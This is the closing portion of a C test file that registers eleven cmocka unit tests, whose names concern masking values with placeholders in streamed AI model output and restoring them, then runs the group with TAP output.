        cmocka_unit_test_setup_teardown(a_value_is_kept_as_it_was_meant,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(only_what_was_masked_here_comes_back,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(signed_thinking_keeps_its_placeholder,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(a_stream_gives_back_at_every_split,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(rules_look_at_what_the_model_said,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(a_placeholder_may_have_escapes,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(a_stream_numbers_like_a_whole_answer,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(
                                an_address_of_a_stream_carries_nothing_away,
                                setup, teardown),
        cmocka_unit_test_setup_teardown(
                                nothing_waits_for_longer_than_a_placeholder,
                                setup, teardown),
        cmocka_unit_test_setup_teardown(what_repeats_the_text_is_left_out,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(turns_of_a_conversation_agree, setup,
                                        teardown),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);

    return cmocka_run_group_tests(tests, setup_all, inspecting_end);
}
